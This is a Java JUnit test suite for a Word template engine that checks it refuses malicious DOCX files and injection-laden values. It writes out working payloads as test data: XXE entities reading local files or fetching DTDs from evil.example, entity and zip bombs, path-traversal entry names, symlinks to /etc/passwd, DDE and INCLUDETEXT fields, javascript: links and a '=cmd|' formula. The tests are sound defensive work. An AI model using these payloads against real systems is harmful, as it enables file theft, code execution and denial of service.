package dev.paperclick.templates;

import static dev.paperclick.templates.Docx.field;
import static dev.paperclick.templates.Docx.hyperlink;
import static dev.paperclick.templates.Docx.lines;
import static dev.paperclick.templates.Docx.p;
import static dev.paperclick.templates.Docx.r;
import static dev.paperclick.templates.Docx.textBox;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.paperclick.platform.UserProblem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Templates and values that mean harm. Each attacking file is given beside one that differs in nothing but the attack
 * and is accepted, so that no refusal is for another reason.
 */
class AttackTests {

    private static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.";
    private static final int MANY = 1_001;

    @TempDir
    Path folder;

    // XXE, billion laughs, quadratic blow-up, bombs (T2 to T4)

    static Stream<Arguments> declarations() {
        String laughs =
                "<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">";
        return Stream.of(
                Arguments.of("<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>", "&x;"),
                Arguments.of("<!DOCTYPE d SYSTEM \"https://evil.example/x.dtd\">", ""),
                Arguments.of("<!DOCTYPE d [<!ENTITY % x SYSTEM \"https://evil.example/x\"> %x;]>", ""),
                Arguments.of("<!DOCTYPE d [" + laughs + "]>", "&c;"),
                Arguments.of("<!DOCTYPE d [<!ENTITY a \"" + "x".repeat(10_000) + "\">]>", "&a;".repeat(1_000)),
                Arguments.of("<!DOCTYPE d>", ""));
    }

    @ParameterizedTest
    @MethodSource("declarations")
    void documentTypeDeclarationsAreRefusedInEveryPart(String declaration, String reference) {
        Docx plain = Docx.of(lines("x"));
        String xml = plain.documentXml();
        String attack = xml.replace("<w:document", declaration + "<w:document").replace(">x<", ">" + reference + "<");

        assertAccepted(plain);
        assertThat(refusal(Docx.of(lines("x")).entry("word/document.xml", utf8(attack))))
                .contains("document type declaration");
        String header = "<w:hdr " + Docx.NAMESPACES + ">" + lines("{{full_name}}" + reference) + "</w:hdr>";
        assertThat(refusal(Docx.of(lines("x"))
                        .story("header", "h.xml", "")
                        .entry("word/h.xml", utf8(declaration + header))))
                .contains("document type declaration");
        String rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>";
        assertThat(refusal(Docx.of(lines("x")).entry("word/_rels/document.xml.rels", utf8(declaration + rels))))
                .contains("document type declaration");
        assertThat(
                        refusal(
                                Docx.of(lines("x"))
                                        .core("")
                                        .entry(
                                                "docProps/core.xml",
                                                utf8(
                                                        declaration
                                                                + "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\"/>"))))
                .contains("document type declaration");
        assertThat(
                        refusal(
                                Docx.of(lines("x"))
                                        .entry(
                                                "[Content_Types].xml",
                                                utf8(
                                                        declaration
                                                                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"))))
                .contains("document type declaration");
    }

    @Test
    void entriesThatUnpackToFarMoreAreRefused() {
        int limit = 100 << 10;
        byte[] noise = new byte[3 << 20];
        new Random(1).nextBytes(noise);

        assertAccepted(hello().entry("word/media/a.bmp", new byte[limit]));
        assertAccepted(hello().entry("word/media/a.bmp", noise));
        assertThat(refusal(hello().entry("word/media/a.bmp", new byte[limit * 3])))
                .contains("unpacks to far more");
        assertThat(refusal(Docx.of(lines("x".repeat(1 << 20))))).contains("unpacks to far more");
    }

    @Test
    void theWholeMayNotUnpackToMoreThanFiftyMegabytes() {
        byte[] loose = mostlyEmpty(11 << 20);

        assertAccepted(media(loose, 4));
        assertThat(refusal(media(loose, 5))).contains("unpacks to far more");
    }

    @Test
    void noEntryMayUnpackToMoreThanTwentyMegabytes() {
        byte[] loose = mostlyEmpty(21 << 20);

        assertAccepted(hello().entry("word/media/a.bmp", Arrays.copyOf(loose, 19 << 20)));
        assertThat(refusal(hello().entry("word/media/a.bmp", loose))).contains("unpacks to far more");
    }

    @Test
    void aThousandEntriesAreEnough() {
        assertAccepted(crowd(MANY - 1));
        assertThat(refusal(crowd(MANY))).contains("more than 1000 entries");
    }

    // Deep nesting and length (T5)

    @Test
    void depthIsLimited() {
        assertAccepted(nestedTables(80));
        assertThat(refusal(nestedTables(86))).contains("nested more than 256 levels deep");
        assertThat(refusal(nestedTables(3_000))).contains("nested more than 256 levels deep");
    }

    @Test
    void depthIsLimitedInEveryPart() {
        String deep = "<w:sdt><w:sdtContent>".repeat(2_000) + p() + "</w:sdtContent></w:sdt>".repeat(2_000);

        assertThat(refusal(hello().story("footer", "f.xml", deep))).contains("nested more than 256 levels deep");
        assertThat(refusal(Docx.of(p(r("x"))).styles(deep))).contains("nested more than 256 levels deep");
    }

    @Test
    void manyParagraphsAreFilled() throws IOException {
        int many = 200_000;
        StringBuilder body = new StringBuilder();
        Random random = new Random(4);
        for (int i = 1; i < many; i++) {
            body.append("<w:p><w:r><w:t>").append(random.nextInt(1_000_000)).append("</w:t></w:r></w:p>");
        }
        CompiledTemplate template =
                compile(Docx.of(body + lines("Hi {{full_name}}")).bytes());

        assertThat(Rendered.of(template, Samples.plain()).xml())
                .endsWith("Hi Ada Lovelace</w:t></w:r></w:p><w:sectPr></w:sectPr></w:body></w:document>"
                        .replace("<w:sectPr></w:sectPr>", "<w:sectPr/>"));
    }

    @Test
    void moreThanAMillionElementsAreRefused() {
        StringBuilder body = new StringBuilder();
        Random random = new Random(5);
        for (int i = 0; i < 1_000_001; i++) {
            body.append(random.nextBoolean() ? "<w:p/>" : "<w:p></w:p>");
        }

        assertThat(refusal(Docx.of(body.toString()))).contains("more than a million elements");
    }

    @ParameterizedTest
    @ValueSource(strings = {"styles", "numbering", "settings", "fontTable", "webSettings"})
    void partsThatNeedNoFillingAreReadAllTheSame(String kind) {
        String xml = "<w:" + kind + " " + Docx.NAMESPACES + "/>";
        String deep = xml.replace("/>", ">" + "<w:x>".repeat(300) + "</w:x>".repeat(300) + "</w:" + kind + ">");

        assertAccepted(plainPart(kind, xml));
        assertThat(refusal(plainPart(kind, "<!DOCTYPE x [<!ENTITY a \"b\">]>" + xml)))
                .contains("document type declaration");
        assertThat(refusal(plainPart(kind, deep))).contains("nested more than 256 levels deep");
    }

    private static Docx plainPart(String kind, String xml) {
        return Docx.of(lines("x"))
                .part("word/" + kind + ".xml", WORD + kind + "+xml", xml)
                .relationship("word/document.xml", "rP", kind, kind + ".xml");
    }

    // Names, duplicates, polyglots, damage, encryption (T6, T7)

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../evil.xml",
                "word/../../evil.xml",
                "word/media/../../../evil",
                "..\\evil.xml",
                "/etc/cron.d/evil",
                "\\\\host\\share\\evil",
                "C:\\evil.xml",
                "c:evil",
                "word//evil.xml",
                "./evil.xml",
                "word/evil.xml\u0000.png"
            })
    void namesThatLeadOutAreRefused(String name) {
        assertAccepted(hello().entry("word/evil.xml", utf8("<x/>")));
        assertThat(refusal(hello().entry(name, utf8("<x/>")))).contains("unsafe name");
    }

    @ParameterizedTest
    @ValueSource(strings = {"word/document.xml", "Word/Document.XML", "word\\document.xml", "WORD/DOCUMENT.XML"})
    void entriesOfOneNameAreRefused(String name) throws IOException {
        Map<String, byte[]> entries = Ooxml.of(hello().bytes()).entries();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                put(zip, entry.getKey(), entry.getValue());
            }
            zip.finish();
        }
        assertThatCode(() -> compile(bytes.toByteArray())).doesNotThrowAnyException();
        ByteArrayOutputStream twice = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(twice)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                put(zip, entry.getKey(), entry.getValue());
            }
            put(zip, name, utf8(Docx.of(lines("another")).documentXml()));
            zip.finish();
        }

        assertThat(refusal(twice.toByteArray())).contains("two entries named");
    }

    @Test
    void symbolicLinksAreRefused() throws IOException {
        assertThatCode(() -> compile(withMode(0100644))).doesNotThrowAnyException();
        assertThat(refusal(withMode(0120777))).contains("no plain file");
    }

    private static byte[] withMode(int mode) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry :
                    Ooxml.of(hello().bytes()).entries().entrySet()) {
                put(zip, entry.getKey(), entry.getValue());
            }
            ZipArchiveEntry link = new ZipArchiveEntry("word/media/a.png");
            link.setUnixMode(mode);
            zip.putArchiveEntry(link);
            zip.write(utf8("/etc/passwd"));
            zip.closeArchiveEntry();
            zip.finish();
        }
        return bytes.toByteArray();
    }

    @ParameterizedTest
    @ValueSource(strings = {"GIF89a", "%PDF-1.7\n", "MZ", "<html>", "#!/bin/sh\n", "PK"})
    void filesThatBeginAsSomethingElseAreRefused(String beginning) throws IOException {
        byte[] good = hello().bytes();
        byte[] front = beginning.getBytes(StandardCharsets.US_ASCII);
        byte[] polyglot = Arrays.copyOf(front, front.length + good.length);
        System.arraycopy(good, 0, polyglot, front.length, good.length);

        assertThat(refusal(polyglot)).contains("is not a Word document");
    }

    @Test
    void filesThatEndEarlyAreRefusedWhereverTheyEnd() throws IOException {
        byte[] good = hello().bytes();
        Random random = new Random(6);
        for (int i = 0; i < 60; i++) {
            int length = 4 + random.nextInt(good.length - 4);
            assertThat(refusal(Arrays.copyOf(good, length)))
                    .as("%d of %d bytes", length, good.length)
                    .contains("damaged");
        }
    }

    @Test
    void damagedFilesAreRefusedOrRead() throws IOException {
        byte[] good = hello().stored().bytes();
        Random random = new Random(7);
        for (int i = 0; i < 500; i++) {
            byte[] damaged = good.clone();
            for (int hit = 0; hit <= i % 4; hit++) {
                damaged[random.nextInt(damaged.length)] = (byte) random.nextInt();
            }
            try {
                compile(damaged);
            } catch (UserProblem refused) {
                assertThat(refused.getMessage()).startsWith("template.docx");
            }
        }
    }

    @Test
    void encryptedPackagesAreRefused() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (POIFSFileSystem system = new POIFSFileSystem()) {
            system.createDocument(new java.io.ByteArrayInputStream(hello().bytes()), "EncryptedPackage");
            system.writeFilesystem(bytes);
        }

        assertThat(refusal(bytes.toByteArray())).contains("protected with a password");
    }

    // Programs, embedded objects and content from elsewhere (T8 to T11)

    static Stream<Arguments> embedded() {
        return Stream.of(
                Arguments.of(hello().entry("word/vbaProject.bin", new byte[4]), "macros"),
                Arguments.of(
                        hello().part("word/data.bin", "application/vnd.ms-office.vbaProject", "<x/>")
                                .relationship("word/document.xml", "rX", "image", "data.bin"),
                        "macros"),
                Arguments.of(internal("http://schemas.microsoft.com/office/2006/relationships/vbaProject"), "macros"),
                Arguments.of(
                        hello().contentTypes(
                                        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/word/document.xml\""
                                                + " ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"),
                        "macros"),
                Arguments.of(hello().part("word/a.xml", "application/vnd.ms-office.activeX+xml", "<x/>"), "ActiveX"),
                Arguments.of(hello().entry("word/activeX/activeX1.bin", new byte[4]), "ActiveX"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "control"), "ActiveX"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "oleObject"), "OLE"),
                Arguments.of(
                        hello().part("word/e.bin", "application/vnd.openxmlformats-officedocument.oleObject", "x"),
                        "OLE"),
                Arguments.of(
                        hello().entry("word/media/a.png", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1}),
                        "OLE"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "aFChunk"), "altChunk"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "subDocument"), "subdocument"),
                Arguments.of(internal(Docx.RELATIONSHIPS + "frame"), "frame"),
                Arguments.of(internal("http://purl.oclc.org/ooxml/officeDocument/relationships/aFChunk"), "altChunk"));
    }

    @ParameterizedTest
    @MethodSource("embedded")
    void programsAndForeignDocumentsAreRefused(Docx docx, String words) {
        assertThat(refusal(docx)).contains(words);
    }

    @Test
    void anOrdinaryPartInTheirPlaceIsAccepted() {
        assertAccepted(internal(Docx.RELATIONSHIPS + "customXml"));
        assertAccepted(hello().entry("word/media/a.png", new byte[] {(byte) 0x89, 'P', 'N', 'G'}));
    }

    private static Docx internal(String type) {
        return hello().part("word/thing.xml", "application/xml", "<x/>")
                .entry(
                        "word/_rels/document.xml.rels",
                        utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rX\" Type=\"" + type
                                + "\" Target=\"thing.xml\"/></Relationships>"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "attachedTemplate",
                "image",
                "oleObject",
                "package",
                "aFChunk",
                "subDocument",
                "frame",
                "mailMergeSource",
                "mailMergeHeaderSource",
                "recipientData",
                "video",
                "audio",
                "customXml",
                "settings",
                "theme",
                "footer",
                "transform"
            })
    void nothingButLinksMayLeadElsewhere(String type) {
        assertAccepted(hello().external("rX", "hyperlink", "https://elsewhere.example/a"));
        for (String target : new String[] {"https://elsewhere.example/a", "\\\\elsewhere\\a", "file:///c:/a"}) {
            assertThat(refusal(hello().external("rX", type, target))).as(target).startsWith("template.docx ");
        }
    }

    @Test
    void relationshipsOfEveryPartAreLookedAt() {
        String remote = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rX\" Type=\"" + Docx.RELATIONSHIPS
                + "attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
        String settings = WORD + "settings+xml";
        String xml = "<w:settings " + Docx.NAMESPACES + "><w:attachedTemplate r:id=\"rX\"/></w:settings>";

        assertThat(refusal(hello().part("word/settings.xml", settings, xml)
                        .relationship("word/document.xml", "rS", "settings", "settings.xml")
                        .entry("word/_rels/settings.xml.rels", utf8(remote))))
                .contains("attached template", "https://evil.example/t.dotm");
        assertThat(refusal(hello().story("header", "h.xml", p()).entry("word/_rels/h.xml.rels", utf8(remote))))
                .contains("attached template");
        assertThat(refusal(hello().story("header", "h.xml", p()).entry("WORD/_RELS/H.XML.RELS", utf8(remote))))
                .contains("attached template");
    }

    // Links and fields (T12)

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "JavaScript:alert(1)",
                "java&#9;script:alert(1)",
                " javascript:alert(1)",
                "javascript:%7b%7bfull_name%7d%7d",
                "vbscript:x",
                "file:///c:/windows/system32/cmd.exe",
                "\\\\host\\share\\x",
                "//host/share",
                "data:text/html,x",
                "ms-word:ofe|u|https://evil.example",
                "search-ms:query=x",
                "ftp://evil.example/x"
            })
    void linksOfOtherKindsAreRefused(String target) {
        assertAccepted(Docx.of(p(hyperlink("rL", "x"))).link("rL", "https://example.com/"));
        assertThat(refusal(Docx.of(p(hyperlink("rL", "x"))).link("rL", target))).contains("has a link to");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "file:///c:/x",
                "\\\\host\\share",
                "data:text/html,x",
                "vbscript:x",
                "java\nscript:x",
                "ftp://x.example",
                "https://",
                "https://good.example\\@evil.example\u0000 x"
            })
    void valuesOfOtherKindsMakeNoLink(String value) throws IOException {
        Docx docx = Docx.of(
                        p(hyperlink("rL", "a")),
                        lines("{{some_url}}"),
                        p(field("HYPERLINK \"{{some_url}}\"", "b")),
                        p(hyperlink("rM", "c")))
                .link("rL", "%7b%7bsome_url%7d%7d")
                .link("rM", "file:///C:\\%7b%7bsome_url%7d%7d");
        CompiledTemplate template = compile(docx.bytes());

        assertThat(Rendered.of(template, Contents.fields("some_url", "https://good.example"))
                        .targets())
                .hasSize(4);
        assertThat(Rendered.of(template, Contents.fields("some_url", value)).targets())
                .isEmpty();
        assertThat(Rendered.of(template, Contents.fields("some_url", Contents.link(value)))
                        .targets())
                .isEmpty();
    }

    @Test
    void valuesCannotBreakOutOfAnAddress() throws IOException {
        String value = "https://x.example/\" TargetMode=\"Internal\"/><Relationship Id=\"rX\" Target='&<>";
        CompiledTemplate template = compile(Docx.of(lines("{{some_url|x}}")).bytes());
        Rendered rendered = Rendered.of(template, Contents.fields("some_url", value));

        assertThat(rendered.targets()).hasSize(1);
        assertThat(Ooxml.of(rendered.bytes()).relationships("word/document.xml").keySet())
                .noneMatch("rX"::equals);
    }

    static Stream<Arguments> fields() {
        return Stream.of(
                        "DDE",
                        "DDEAUTO",
                        "INCLUDETEXT",
                        "INCLUDEPICTURE",
                        "IMPORT",
                        "INCLUDE",
                        "LINK",
                        "EMBED",
                        "DATABASE",
                        "MACROBUTTON",
                        "GOTOBUTTON",
                        "RD",
                        "AUTOTEXT",
                        "PRINT",
                        "CONTROL",
                        "ASK",
                        "FILLIN",
                        "HTMLACTIVEX")
                .map(Arguments::of);
    }

    @ParameterizedTest
    @MethodSource("fields")
    void fieldsThatFetchOrRunAreRefusedHoweverTheyAreSplit(String kind) {
        String rest = " \"c:\\\\x\" a";
        String split = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> "
                + kind.charAt(0) + "</w:instrText></w:r><w:bookmarkStart w:id=\"1\" w:name=\"b\"/><w:r><w:instrText>"
                + kind.substring(1, 2).toLowerCase()
                + "</w:instrText></w:r><w:bookmarkEnd w:id=\"1\"/><w:r><w:instrText>"
                + kind.substring(2) + rest + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                + r("x")
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        String simple = "<w:fldSimple w:instr=\" " + kind + " x\">" + r("x") + "</w:fldSimple>";

        assertAccepted(Docx.of(p(split.replace(kind.charAt(0) + "</w:instr", "PAGE</w:instr")
                .replaceAll("<w:instrText>[^<]*", "<w:instrText>"))));
        for (String attack : new String[] {split, simple, field(kind + rest, "x")}) {
            assertThat(refusal(Docx.of(p(attack)))).contains("is a field of the kind " + kind);
            assertThat(refusal(hello().story("header", "h.xml", p(attack)))).contains("header 1");
            assertThat(refusal(hello().footnotes(p(attack)))).contains("the footnotes");
            assertThat(refusal(Docx.of(p(textBox(p(attack)))))).contains("is a field of the kind " + kind);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"file:///c:/x.exe", "\\\\\\\\host\\\\share", "javascript:alert(1)", "x.docx"})
    void linkFieldsLeadNowhereElseThanLinksDo(String target) {
        assertAccepted(Docx.of(p(field("HYPERLINK \"https://example.com/\"", "x"))));
        assertAccepted(Docx.of(p(field("HYPERLINK \\l \"place\" \\* MERGEFORMAT", "x"))));
        assertThat(refusal(Docx.of(p(field("HYPERLINK \"" + target + "\"", "x")))))
                .contains("which is no web, mail or telephone address");
    }

    @Test
    void fieldsInFieldsAreLookedAt() {
        String nested = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>"
                + field("INCLUDETEXT \"https://evil.example\"", "x")
                + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>" + r("x")
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

        assertAccepted(Docx.of(p(nested.replace("INCLUDETEXT \"https://evil.example\"", "PAGE"))));
        assertThat(refusal(Docx.of(p(nested)))).contains("is a field of the kind INCLUDETEXT");
    }

    // What values say (T13, T14)

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{title}}",
                "{{#work}}x{{/work}}",
                "{{{email}}}",
                "${title} #{title} <%= 7*7 %> [[title]]",
                "%7b%7btitle%7d%7d",
                "{{",
                "}}",
                "=cmd|'/c calc'!A1",
                "<w:t>x</w:t>&amp;]]>",
                "<!--",
                "&#x26;lt;",
                "'\"<>&"
            })
    void valuesAreLiteral(String value) throws IOException {
        CompiledTemplate template = compile(Docx.of(lines("{{some}}", "{{#list}}{{.}}{{/list}}", "a{{some}}b{{title}}"))
                .bytes());
        Rendered rendered = Rendered.of(
                template, Contents.fields("some", value, "list", Contents.items(value, value), "title", "T"));

        assertThat(rendered.paragraphs()).containsExactly(value, value + value, "a" + value + "bT");
    }

    static Stream<Arguments> characters() {
        return Stream.of(
                Arguments.of("a\u0000b\u0001c\u001Fd", "abcd"),
                Arguments.of("a\u000Bb\u000Cc", "abc"),
                Arguments.of("a\uFFFEb\uFFFFc", "abc"),
                Arguments.of("a\uD83Db", "ab"),
                Arguments.of("a\uDE00b", "ab"),
                Arguments.of("\uDE00\uD83D", ""),
                Arguments.of("\uD83D\uD83D\uDE00", "😀"),
                Arguments.of("a\u202Egnp.exe\u202C", "agnp.exe"),
                Arguments.of("a\u202Ab\u202Bc\u202Cd\u202De\u202Ef", "abcdef"),
                Arguments.of("a\u2066b\u2067c\u2068d\u2069e", "abcde"),
                Arguments.of("\u2027\u202F\u2065\u206A", "\u2027\u202F\u2065\u206A"),
                Arguments.of("שלום (Ada) مرحبا\u061C 12", "שלום (Ada) مرحبا\u061C 12"),
                Arguments.of("\u200Fשלום\u200E", "\u200Fשלום\u200E"),
                Arguments.of("👩‍👩‍👧 e\u0301 \u0130", "👩‍👩‍👧 e\u0301 \u0130"));
    }

    @ParameterizedTest
    @MethodSource("characters")
    void charactersThatXmlOrReadersCannotHaveAreRemoved(String value, String shown) throws IOException {
        CompiledTemplate template = compile(Docx.of(lines("[{{some}}]"))
                .core("<dc:title>[{{some}}]</dc:title>")
                .bytes());
        Rendered rendered = Rendered.of(template, Contents.fields("some", value));

        assertThat(rendered.text()).isEqualTo("[" + shown + "]");
        assertThat(Ooxml.parse(rendered.entries().get("docProps/core.xml"))
                        .getDocumentElement()
                        .getTextContent())
                .isEqualTo("[" + shown + "]");
    }

    // Files

    private static Docx hello() {
        return Docx.of(lines("Hi {{full_name}}"));
    }

    private static Docx media(byte[] content, int times) {
        Docx docx = hello();
        for (int i = 0; i < times; i++) {
            docx.entry("word/media/" + i + ".bmp", content);
        }
        return docx;
    }

    /** What packs to a fiftieth, so that it is not suspicious in itself. */
    private static byte[] mostlyEmpty(int size) {
        byte[] noise = new byte[size / 50];
        new Random(2).nextBytes(noise);
        return Arrays.copyOf(noise, size);
    }

    private static Docx crowd(int size) {
        Docx docx = hello();
        int own = Ooxml.of(docx.bytes()).entries().size();
        for (int i = own; i < size; i++) {
            docx.entry("word/media/" + i, new byte[] {1});
        }
        return docx;
    }

    private static Docx nestedTables(int depth) {
        Random random = new Random(8);
        StringBuilder nested = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            nested.append("<w:tbl><w:tr w:rsidR=\"")
                    .append(Integer.toHexString(random.nextInt()))
                    .append("\"><w:tc>");
        }
        nested.append(lines("{{full_name}}"));
        return Docx.of(nested + ("<w:p/></w:tc></w:tr></w:tbl>").repeat(depth) + p());
    }

    private static void put(ZipArchiveOutputStream zip, String name, byte[] content) throws IOException {
        zip.putArchiveEntry(new ZipArchiveEntry(name));
        zip.write(content);
        zip.closeArchiveEntry();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private CompiledTemplate compile(byte[] template) throws IOException {
        return CompiledTemplate.compile(Files.write(folder.resolve("template.docx"), template));
    }

    private void assertAccepted(Docx docx) {
        assertThatCode(() -> Rendered.of(compile(docx.bytes()), Samples.plain()))
                .doesNotThrowAnyException();
    }

    private String refusal(Docx docx) {
        try {
            return refusal(docx.bytes());
        } catch (IOException impossible) {
            throw new java.io.UncheckedIOException(impossible);
        }
    }

    private String refusal(byte[] template) throws IOException {
        Path file = Files.write(folder.resolve("template.docx"), template);
        UserProblem problem = catchThrowableOfType(UserProblem.class, () -> CompiledTemplate.compile(file));
        assertThat(problem).as("a refusal").isNotNull();
        return problem.getMessage();
    }
}
